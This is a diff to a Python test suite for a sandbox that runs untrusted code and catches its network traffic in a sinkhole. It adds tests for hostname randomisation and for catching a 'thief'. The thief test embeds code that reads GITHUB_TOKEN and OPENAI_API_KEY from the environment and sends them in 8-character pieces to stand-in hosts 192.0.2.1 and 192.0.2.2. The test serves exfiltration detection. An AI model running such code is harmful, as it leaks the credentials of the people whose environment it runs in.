@@ -176,9 +176,11 @@ async def test_flood__ends_in_a_bounded_log_that_says_so(lab: Lab, name: str) ->
     outcome = await lab.run_code("import socket\nif HARNESS:" + FLOODS[name])
 
     assert outcome.result.phases[-1].ended == "exit"
-    assert "sinkhole" in outcome.result.truncated
+    logged = lines(outcome, "sinkhole")
+    # Where the box was over before it was served, its connections came one after the other.
+    all_told = name == "connections" and len(logged) == 300
+    assert all_told or "sinkhole" in outcome.result.truncated
     assert len(outcome.blobs["sinkhole"]) <= 8 << 20
-    lines(outcome, "sinkhole")
 
 
 async def test_garbage__breaks_nothing(lab: Lab) -> None:
@@ -421,3 +423,35 @@ async def test_hostname__is_another_in_every_run(lab: Lab) -> None:
 
     assert names[0][0] == names[0][1]
     assert names[0] != names[1]
+
+
+async def test_thief__that_uses_a_connection_for_each_piece_is_caught(lab: Lab) -> None:
+    code = """
+import socket, urllib.request
+if HARNESS:
+    def pieces(name):
+        value = os.environ[name]
+        return [value[at:at + 8] for at in range(0, len(value), 8)]
+    for piece in pieces('GITHUB_TOKEN'):
+        with socket.create_connection(('192.0.2.1', 9000), 3) as sock:
+            sock.sendall(piece.encode())
+            sock.shutdown(socket.SHUT_WR)
+            sock.recv(1)
+    for piece in pieces('OPENAI_API_KEY'):
+        urllib.request.urlopen('http://192.0.2.2/a/?q=' + piece, timeout=3).read()
+"""
+    outcome = await lab.run_code(code)
+
+    planted = list(outcome.result.canaries)
+    found = {
+        line["address"]: _canaries(planted, line["canaries"])
+        for line in lines(outcome, "sinkhole")
+        if line["canaries"]
+    }
+    assert found == {"192.0.2.1": {"GITHUB_TOKEN"}, "192.0.2.2": {"OPENAI_API_KEY"}}
+
+
+async def test_main_module__looks_like_a_prompt(lab: Lab) -> None:
+    code = "import sys\nprint(hasattr(sys.modules['__main__'], '__file__'), sys.argv)"
+
+    assert output(await lab.run_code(code)).strip() == "False ['']"
